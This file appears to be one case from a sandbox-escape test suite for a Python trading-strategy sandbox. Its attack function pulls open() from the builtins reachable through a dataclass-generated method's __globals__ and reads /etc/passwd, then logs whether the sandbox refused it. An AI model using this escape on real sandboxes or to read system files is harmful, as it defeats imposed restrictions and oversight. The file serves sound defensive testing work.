# id: L22
# family: language
# goal: take builtins from the globals of a generated dataclass method
# finding: PY105 PY119
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


from dataclasses import dataclass


@dataclass
class Point:
    x: int = 0


def attack(ctx, bar):
    names = Point.__init__.__globals__["__builtins__"]
    return (names["open"] if isinstance(names, dict) else names.open)("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
